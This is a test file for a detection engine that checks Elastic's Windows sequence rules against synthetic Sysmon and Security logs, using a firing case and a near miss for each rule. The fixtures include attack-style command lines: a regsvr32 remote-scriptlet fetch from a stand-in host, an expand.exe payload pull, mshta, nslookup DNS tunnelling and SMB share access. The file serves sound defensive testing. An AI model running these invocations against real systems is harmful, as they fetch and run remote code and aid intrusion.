/**
 * Elastic's sequence rules (../shared/corpus/elastic-detection-rules/rules/windows): how many load,
 * why the others do not, and, for a dozen of them, a Sysmon log written with the dev writer that
 * (or a Security log) fires the rule next to a near miss that does not (outside maxspan, another process, the wrong
 * order, too few runs, an excluded destination). Events go through the EVTX reader and
 * normalization, then each step's filter and the rule's matcher in time order, as in a hunt.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'smol-toml';
import { loadElasticRuleFile } from '../../src/rules/eql/index.js';
import { parseQuery } from '../../src/rules/eql/parse/parser.js';
import { sharedMissing, SHARED_DIR } from '../support/sharedData.js';
import { readTimedEvents, sequenceRule, SequenceHost, system32, USER, writeSequenceLog, type RecordId } from './sequenceLogs.js';
import { runTemporal } from './temporal.js';

const skip = sharedMissing();
const RULES = (): string => join(SHARED_DIR, 'corpus/elastic-detection-rules/rules/windows');
const START = new Date('2024-03-11T10:00:00Z');

/** The sequence rules that do not load, with why (the reason's end, what Windows logs lack, left off). */
const NOT_LOADED: readonly (readonly [string, string])[] = [
  ['collection_email_outlook_mailbox_via_com', 'step 2: needs process.Ext.effective_parent.name'],
  ['command_and_control_iexplore_via_com', "step 1: EQL 'library where' rules need library events"],
  ['credential_access_credential_dumping_msbuild', "step 2: EQL 'library where' rules need library events"],
  ['credential_access_saved_creds_vault_winlog', 'step 1: join key winlog.process.pid is not in any events read from Windows event logs'],
  ['credential_access_veeam_backup_dll_imageload', "step 2: EQL 'library where' rules need library events"],
  ['defense_evasion_parent_process_pid_spoofing', 'step 2: needs process.parent.Ext.real.pid'],
  ['discovery_active_directory_webservice', "step 1: EQL 'library where' rules need library events"],
  [
    'execution_azure_customscript_extension_suspicious_descendant',
    'step 2: join key process.Ext.ancestry is not in process events read from Windows event logs',
  ],
  [
    'execution_java_dropped_jar_immediate_dns_lookup',
    'step 1: needs process.Ext.relative_file_creation_time, process.Ext.relative_file_name_modify_time',
  ],
  ['execution_windows_script_from_internet', 'step 1: needs file.origin_url, file.origin_referrer_url'],
  ['impact_ransomware_file_rename_smb', 'step 1: needs file.Ext.entropy'],
  ['initial_access_evasion_suspicious_htm_file_creation', 'step 1: needs file.Ext.entropy, file.size'],
  ['initial_access_execution_from_removable_media', 'step 1: needs process.Ext.device.bus_type, process.Ext.device.product_id'],
  ['initial_access_xsl_script_execution_via_com', "step 1: EQL 'library where' rules need library events"],
  ['persistence_startup_folder_file_written_by_unsigned_process', 'step 1: needs process.code_signature.trusted'],
];

function isSequenceRule(path: string): boolean {
  const query = (parse(readFileSync(path, 'utf8')) as { rule: { query?: unknown } }).rule.query;
  try {
    return typeof query === 'string' && parseQuery(query).kind === 'sequence';
  } catch {
    return false;
  }
}

test('Elastic’s 74 Windows sequence rules: 59 load as temporal rules, 15 do not, each for its reason', { skip }, () => {
  const files = readdirSync(RULES())
    .filter((name) => name.endsWith('.toml') && isSequenceRule(join(RULES(), name)))
    .sort();
  assert.equal(files.length, 74);
  let loaded = 0;
  const notLoaded: [string, string][] = [];
  for (const file of files) {
    const result = loadElasticRuleFile(join(RULES(), file));
    assert.equal(result.rules.length, 0, `${file}: a sequence is no single-event rule`);
    loaded += result.temporal?.length ?? 0;
    for (const skipped of result.skipped) {
      assert.equal(skipped.kind, 'unsupported', file);
      notLoaded.push([file.replace(/\.toml$/, ''), skipped.reason.replace(/, which Windows event logs do not (give|provide).*$/, '')]);
    }
  }
  assert.equal(loaded, 59);
  assert.deepEqual(notLoaded, NOT_LOADED);
});

/** `rule` over the host's log, read back from EVTX: the record ids of each match. */
function matchesOf(rule: string, host: SequenceHost, logName = 'Microsoft-Windows-Sysmon%4Operational.evtx'): RecordId[][] {
  const log = writeSequenceLog(logName, host.log());
  const run = runTemporal(sequenceRule(join(RULES(), `${rule}.toml`)), readTimedEvents(log));
  assert.equal(run.dropped, 0);
  return run.matches.map((match) => [...match]);
}

const MSXSL = system32('msxsl.exe', 'Command Line XSLT');
const CMD = system32('cmd.exe', 'Windows Command Processor');

test('msxsl.exe connecting out: fires for the process that started; not for another msxsl.exe whose start is not seen', { skip }, () => {
  const host = new SequenceHost(START);
  const started = host.startProcess(0, MSXSL, 'msxsl.exe C:\\Users\\carol\\Downloads\\a.xml C:\\Users\\carol\\Downloads\\b.xsl');
  const connection = host.connect(4, started.process);
  assert.deepEqual(matchesOf('defense_evasion_msxsl_network', host), [[started.recordId, connection]]);

  const nearMiss = new SequenceHost(START);
  nearMiss.startProcess(0, MSXSL, 'msxsl.exe a.xml b.xsl');
  const other = { ...started.process, processId: 7777, processGuid: '{4C4B1D3A-9999-65EE-0A01-000000000E00}' };
  nearMiss.connect(4, other);
  assert.deepEqual(matchesOf('defense_evasion_msxsl_network', nearMiss), []);
});

test('mshta.exe beacon (maxspan 10m): fires 9 minutes after the start, not 10 minutes and 1 second after', { skip }, () => {
  const mshta = system32('mshta.exe', 'Microsoft (R) HTML Application host');
  const host = new SequenceHost(START);
  const started = host.startProcess(0, mshta, 'mshta.exe C:\\Users\\carol\\Downloads\\invoice.hta');
  const beacon = host.connect(540, started.process);
  assert.deepEqual(matchesOf('defense_evasion_mshta_beacon', host), [[started.recordId, beacon]]);

  const late = new SequenceHost(START);
  const lateStart = late.startProcess(0, mshta, 'mshta.exe C:\\Users\\carol\\Downloads\\invoice.hta');
  late.connect(601, lateStart.process);
  assert.deepEqual(matchesOf('defense_evasion_mshta_beacon', late), []);
});

test('cmd.exe running a batch file connecting out (maxspan 15s): fires at the edge of 15 s, not at 16 s', { skip }, () => {
  const host = new SequenceHost(START);
  const started = host.startProcess(0, CMD, 'cmd.exe /c C:\\Users\\carol\\AppData\\Local\\Temp\\update.bat');
  const connection = host.connect(15, started.process);
  assert.deepEqual(matchesOf('execution_command_prompt_connecting_to_the_internet', host), [[started.recordId, connection]]);

  const late = new SequenceHost(START);
  const lateStart = late.startProcess(0, CMD, 'cmd.exe /c C:\\Users\\carol\\AppData\\Local\\Temp\\update.bat');
  late.connect(16, lateStart.process);
  assert.deepEqual(matchesOf('execution_command_prompt_connecting_to_the_internet', late), []);
});

test('expand.exe connecting out: fires after its start, not for a connection logged before it', { skip }, () => {
  const expand = system32('expand.exe', 'LZ Expansion Utility');
  const host = new SequenceHost(START);
  const started = host.startProcess(10, expand, 'expand.exe \\\\files.example\\drop\\payload.cab -F:* C:\\Users\\Public');
  const connection = host.connect(12, started.process);
  assert.deepEqual(matchesOf('defense_evasion_misc_lolbin_connecting_to_the_internet', host), [[started.recordId, connection]]);

  const reversed = new SequenceHost(START);
  const reversedStart = reversed.startProcess(10, expand, 'expand.exe payload.cab -F:* C:\\Users\\Public');
  reversed.connect(8, reversedStart.process);
  assert.deepEqual(matchesOf('defense_evasion_misc_lolbin_connecting_to_the_internet', reversed), []);
});

test('hh.exe connecting to the internet: fires for a public address, not for an internal one', { skip }, () => {
  const hh = system32('hh.exe', 'Microsoft® HTML Help Executable');
  const host = new SequenceHost(START);
  const started = host.startProcess(0, hh, 'hh.exe C:\\Users\\carol\\Downloads\\manual.chm');
  const connection = host.connect(3, started.process);
  assert.deepEqual(matchesOf('execution_html_help_executable_program_connecting_to_the_internet', host), [[started.recordId, connection]]);

  const internal = new SequenceHost(START);
  const internalStart = internal.startProcess(0, hh, 'hh.exe C:\\Users\\carol\\Downloads\\manual.chm');
  internal.connect(3, internalStart.process, '10.20.0.15');
  assert.deepEqual(matchesOf('execution_html_help_executable_program_connecting_to_the_internet', internal), []);
});

test('installutil.exe beacon: only the first outgoing connection after the start makes a match', { skip }, () => {
  const installUtil = {
    ...system32('InstallUtil.exe', 'Microsoft .NET Services Installation Utility'),
    image: 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe',
  };
  const host = new SequenceHost(START);
  const started = host.startProcess(0, installUtil, 'InstallUtil.exe /logfile= /LogToConsole=false /U C:\\Users\\Public\\a.dll');
  const first = host.connect(30, started.process);
  host.connect(90, started.process);
  assert.deepEqual(matchesOf('defense_evasion_installutil_beacon', host), [[started.recordId, first]]);
});

test('regsvr32.exe connecting out: fires for a TCP connection, not for its DNS query alone', { skip }, () => {
  const regsvr32 = system32('regsvr32.exe', 'Microsoft(C) Register Server');
  const host = new SequenceHost(START);
  const started = host.startProcess(0, regsvr32, 'regsvr32.exe /s /n /u /i:https://files.example/a.sct scrobj.dll');
  const connection = host.connect(2, started.process);
  assert.deepEqual(matchesOf('execution_register_server_program_connecting_to_the_internet', host), [[started.recordId, connection]]);

  const dnsOnly = new SequenceHost(START);
  const dnsStart = dnsOnly.startProcess(0, regsvr32, 'regsvr32.exe /s /n /u /i:https://files.example/a.sct scrobj.dll');
  dnsOnly.resolve(1, dnsStart.process, 'files.example');
  assert.deepEqual(matchesOf('execution_register_server_program_connecting_to_the_internet', dnsOnly), []);
});

test('cdb.exe connecting out: two processes, each joined with its own connection', { skip }, () => {
  const cdb = { ...system32('cdb.exe', 'Symbolic Debugger for Windows'), image: 'C:\\Users\\Public\\cdb.exe' };
  const host = new SequenceHost(START);
  const first = host.startProcess(0, cdb, 'cdb.exe -cf x.txt notepad.exe');
  const second = host.startProcess(1, cdb, 'cdb.exe -cf y.txt notepad.exe');
  const secondConnection = host.connect(2, second.process);
  const firstConnection = host.connect(3, first.process);
  assert.deepEqual(matchesOf('defense_evasion_unusual_process_network_connection', host), [
    [second.recordId, secondConnection],
    [first.recordId, firstConnection],
  ]);
});

test('direct outbound SMB (maxspan 1m): fires for port 445 within the minute, not for port 443', { skip }, () => {
  const tool = { ...system32('sharpexec.exe', 'tool'), image: 'C:\\Users\\carol\\AppData\\Local\\Temp\\sharpexec.exe' };
  const host = new SequenceHost(START);
  const started = host.startProcess(0, tool, 'sharpexec.exe \\\\10.20.30.5\\C$');
  const smb = host.connect(20, started.process, '10.20.30.5', 445);
  assert.deepEqual(matchesOf('lateral_movement_direct_outbound_smb_connection', host), [[started.recordId, smb]]);

  const https = new SequenceHost(START);
  const httpsStart = https.startProcess(0, tool, 'sharpexec.exe \\\\10.20.30.5\\C$');
  https.connect(20, httpsStart.process, '10.20.30.5', 443);
  assert.deepEqual(matchesOf('lateral_movement_direct_outbound_smb_connection', https), []);
});

test('a Windows binary resolving a name (maxspan 1m): fires for an unknown domain, not for an excluded one', { skip }, () => {
  const wscript = system32('wscript.exe', 'Microsoft ® Windows Based Script Host');
  const host = new SequenceHost(START);
  const started = host.startProcess(0, wscript, 'wscript.exe C:\\Users\\carol\\Downloads\\invoice.js');
  const lookup = host.resolve(5, started.process, 'cdn.files-drop.example');
  assert.deepEqual(matchesOf('defense_evasion_network_connection_from_windows_binary', host), [[started.recordId, lookup]]);

  const excluded = new SequenceHost(START);
  const excludedStart = excluded.startProcess(0, wscript, 'wscript.exe C:\\Users\\carol\\Downloads\\invoice.js');
  excluded.resolve(5, excludedStart.process, 'ocsp.digicert.com');
  assert.deepEqual(matchesOf('defense_evasion_network_connection_from_windows_binary', excluded), []);
});

test('nslookup DNS tunnelling (runs=10, maxspan 5m): ten queries in 4.5 minutes fire; ten over 6 minutes do not', { skip }, () => {
  const nslookup = system32('nslookup.exe', 'nslookup');
  const host = new SequenceHost(START);
  const runs = Array.from(
    { length: 10 },
    (_, index) => host.startProcess(index * 30, nslookup, `nslookup.exe -q=txt c${index}.tunnel.example`).recordId,
  );
  assert.deepEqual(matchesOf('command_and_control_dns_tunneling_nslookup', host), [runs]);

  const slow = new SequenceHost(START);
  for (let index = 0; index < 10; index++) slow.startProcess(index * 40, nslookup, `nslookup.exe -q=txt c${index}.tunnel.example`);
  assert.deepEqual(matchesOf('command_and_control_dns_tunneling_nslookup', slow), []);

  const nine = new SequenceHost(START);
  for (let index = 0; index < 9; index++) nine.startProcess(index * 10, nslookup, `nslookup.exe -q=txt c${index}.tunnel.example`);
  assert.deepEqual(matchesOf('command_and_control_dns_tunneling_nslookup', nine), []);
});

test(
  'brute force then success (Security, runs=5, maxspan 5s): fires for five failures and a logon from one address; not from another address, nor after four',
  { skip },
  () => {
    const rule = 'credential_access_bruteforce_multiple_logon_failure_followed_by_success';
    const attacker = '203.0.113.66';
    const host = new SequenceHost(START);
    const failures = [0, 0.5, 1, 1.5, 2].map((second) => host.failedNetworkLogon(second, USER, attacker));
    const success = host.networkLogon(3, USER, attacker);
    assert.deepEqual(matchesOf(rule, host, 'Security.evtx'), [[...failures, success]]);

    const otherAddress = new SequenceHost(START);
    for (const second of [0, 0.5, 1, 1.5, 2]) otherAddress.failedNetworkLogon(second, USER, attacker);
    otherAddress.networkLogon(3, USER, '198.51.100.7');
    assert.deepEqual(matchesOf(rule, otherAddress, 'Security.evtx'), []);

    const four = new SequenceHost(START);
    for (const second of [0, 0.5, 1, 1.5]) four.failedNetworkLogon(second, USER, attacker);
    four.networkLogon(3, USER, attacker);
    assert.deepEqual(matchesOf(rule, four, 'Security.evtx'), []);
  },
);
